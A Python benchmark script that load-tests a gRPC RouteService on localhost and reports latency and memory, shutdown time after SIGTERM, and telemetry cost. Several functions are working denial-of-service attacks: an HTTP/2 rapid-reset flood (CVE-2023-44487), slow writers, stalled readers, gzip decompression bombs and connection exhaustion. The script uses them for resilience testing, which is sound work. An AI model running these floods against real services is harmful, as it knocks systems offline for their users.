"""The measuring half of operations.sh: a well-behaved client beside each attack, the time from SIGTERM to the end, the cost of telemetry.

Usage: measure_operations.py WORKFOLDER [--save [NAME]] [--quick]"""
import contextlib
import datetime
import multiprocessing
import socket
import statistics
import struct
import sys
import time
import zlib

from collector import Collector
from load import ALONE, BUSY, Load, arguments, machine, number, publish, start_service, take_turns
from messages import WORLD, frame, note, point, write_body

DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# One of the sample features that a new store starts with.
SAMPLE = point(407838351, -746143763)


def http2(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def call(stream, path, *more):
    """The headers of a call, as literals that no table remembers (RFC 7541, 6.2.2)."""
    def text(value):
        return bytes([len(value)]) + value
    block = b"\x83\x86\x04" + text(path) + b"\x01" + text(b"localhost") + b"\x00" + text(b"te") + text(b"trailers")
    block += b"\x00" + text(b"content-type") + text(b"application/grpc")
    for name, value in more:
        block += b"\x00" + text(name) + text(value)
    return http2(HEADERS, END_HEADERS, stream, block)


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port))
    connection.sendall(PREFACE + http2(SETTINGS, 0, 0))
    return connection


def drain(connection):
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 20, socket.MSG_DONTWAIT):
            pass


# The attacks: each runs until it is killed, and reconnects when the service has closed its connection.

def forever(attack):
    def run(port, ready):
        while True:
            with contextlib.suppress(OSError):
                attack(port, ready)
            time.sleep(0.01)
    return run


@forever
def rapid_reset(port, ready):
    """CVE-2023-44487: streams opened and reset at once."""
    connection = connect(port)
    for stream in range(1, 2_000_000, 2):
        connection.sendall(call(stream, b"/routeguide.RouteGuide/RouteChat") + http2(RESET, 0, stream, struct.pack(">I", 8)))
        if stream % 100 == 1:
            drain(connection)
        ready.set()


@forever
def slow_writers(port, ready):
    """2 000 connections, each with a call whose message arrives at a byte a second."""
    connections = []
    for _ in range(2_000):
        connection = connect(port)
        connection.sendall(call(1, b"/routeguide.RouteGuide/GetFeature"))
        connections.append(connection)
    ready.set()
    message = frame(point(1, 1) + bytes(1000))
    for byte in message:
        for connection in connections:
            connection.sendall(http2(DATA, 0, 1, bytes([byte])))
        time.sleep(1)


@forever
def stalled_readers(port, ready):
    """1 000 listings of the whole world that are not read."""
    connections = []
    for _ in range(10):
        connection = connect(port)
        for stream in range(1, 200, 2):
            connection.sendall(call(stream, b"/routeguide.RouteGuide/ListFeatures") + http2(DATA, END_STREAM, stream, frame(WORLD)))
        connections.append(connection)
    ready.set()
    time.sleep(3600)


@forever
def bombs(port, ready):
    """Messages of 200 MB in 200 KB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(200)) + packer.flush()
    message = struct.pack(">BI", 1, len(packed)) + packed
    connection = connect(port)
    for stream in range(1, 2_000_000, 2):
        connection.sendall(call(stream, b"/routeguide.RouteGuide/GetFeature", (b"grpc-encoding", b"gzip")))
        # A stream may send 768 KiB before it is read, and the end of a stream returns its bytes to the connection's window.
        for at in range(0, len(message), 16_384):
            part = message[at:at + 16_384]
            connection.sendall(http2(DATA, END_STREAM if at + 16_384 >= len(message) else 0, stream, part))
        ready.set()
        answer = connection.recv(1 << 20)
        if not answer:
            return


@forever
def connections(port, ready):
    """10 000 connections that do nothing."""
    held = [connect(port) for _ in range(9_990)]
    ready.set()
    for connection in held:
        connection.recv(1 << 16)
    time.sleep(3600)


ATTACKS = [
    ("no attack", None),
    ("rapid reset", rapid_reset),
    ("2 000 writers of a byte a second", slow_writers),
    ("1 000 listings that are not read", stalled_readers),
    ("messages of 200 MB in 200 KB", bombs),
    ("9 990 idle connections", connections),
]


def under_attack(work, seconds):
    """Lines of (attack, calls/s, p50 and p99 in µs of one client that calls one after the other, MB during, MB afterwards)."""
    load = Load(work)
    body = write_body(work / "point.bin", SAMPLE)
    for i, (label, attack) in enumerate(ATTACKS):
        server = start_service(f"attacked-{i}", work, {})
        load.run("GetFeature", body, server, "-s", 3, *ALONE)
        attacker = None
        if attack:
            ready = multiprocessing.Event()
            attacker = multiprocessing.Process(target=attack, args=(server.port, ready), daemon=True)
            attacker.start()
            if not ready.wait(60):
                sys.exit(f"The attack '{label}' has not begun after a minute.")
            time.sleep(1)
        run = load.run("GetFeature", body, server, "-s", seconds, *ALONE, "--expect", 1)
        during = server.megabytes()
        if attacker:
            attacker.kill()
            attacker.join()
        time.sleep(2)
        yield label, run["calls_s"], run["p50_us"], run["p99_us"], during, server.megabytes()
        server.stop()


def shutdown(work, rounds):
    """Lines of (open chat streams, median seconds from SIGTERM to the end)."""
    for streams in (0, 50, 500):
        times = []
        for i in range(rounds):
            server = start_service(f"stopped-{streams}-{i}", work, {})
            held = []
            for stream in range(streams):
                if stream % 100 == 0:
                    held.append(connect(server.port))
                number = 2 * (stream % 100) + 1
                held[-1].sendall(call(number, b"/routeguide.RouteGuide/RouteChat") + http2(DATA, 0, number, frame(note(1, stream, 1))))
            time.sleep(1)
            began = time.monotonic()
            server.stop()
            times.append(time.monotonic() - began)
        yield streams, sorted(times)[rounds // 2]


def telemetry(work, seconds, rounds):
    """Lines of (what is exported, calls/s, processor time a call, each followed by its ratio to that with nothing, MB)."""
    load = Load(work)
    calls = load.calls("GetFeature", write_body(work / "point.bin", SAMPLE), *BUSY)
    with Collector() as collector:
        settings = {
            "nothing": {},
            "everything, of traces one in a hundred": collector.environment(traces=0.01),
            "everything, all traces": collector.environment(),
        }
        servers = {label: start_service(f"told-{i}", work, environment) for i, (label, environment) in enumerate(settings.items())}
        # .NET compiles its hot paths again until three times the time of a run has passed.
        runs = take_turns(
            {label: lambda time, server=server: calls(server, time) for label, server in servers.items()}, seconds, rounds, 3 * seconds)
        megabytes = {label: server.megabytes() for label, server in servers.items()}
        for server in servers.values():
            server.stop()
    rates = {label: statistics.median(run.rate for run in runs[label]) for label in servers}
    times = {label: statistics.median(run.microseconds for run in runs[label]) for label in servers}
    for label in servers:
        yield (label, number(rates[label]), f"{rates[label] / rates['nothing']:.2f}", f"{times[label]:.1f}",
               f"{times[label] / times['nothing']:.2f}", number(megabytes[label]))


def main():
    options = arguments("-operations").parse_args()
    seconds, rounds = (1, 1) if options.quick else (5, 3)

    lines = [
        f"# RouteService under overload and at shutdown, {datetime.date.today()}\n",
        f"`bench/operations.sh {' '.join(sys.argv[2:])}".rstrip() + "`\n",
        machine(),
        f"\nOne client makes one GetFeature after the other for {seconds} s, in the embedded store, while a program of its own attacks "
        "from the same machine, whose cores they share. Each line is a fresh server.\n",
        "| while attacked by | calls/s | p50, µs | p99, µs | MB during | MB after |",
        "|---|---:|---:|---:|---:|---:|",
        *(f"| {label} | {' | '.join(number(value) for value in values)} |" for label, *values in under_attack(options.work, seconds)),
        f"\n## From SIGTERM to the end, with no delay; the {'median of three' if rounds == 3 else 'one run'}\n",
        "| open RouteChat streams | s |",
        "|---:|---:|",
        *(f"| {streams} | {taken:.2f} |" for streams, taken in shutdown(options.work, rounds)),
        "\n## The cost of telemetry\n",
        f"GetFeature from 10 connections with 10 calls each, for {seconds} s; "
        f"{'medians of five runs' if rounds == 3 else 'one run'} in turn. "
        "What is exported goes by OTLP every second to a program on the same machine.\n",
        "| exported | calls/s | of that with nothing | processor, µs a call | of that | MB |",
        "|---|---:|---:|---:|---:|---:|",
        *(f"| {' | '.join(cells)} |" for cells in telemetry(options.work, seconds, 5 if rounds == 3 else 1)),
    ]
    publish(lines, options.save)


main()
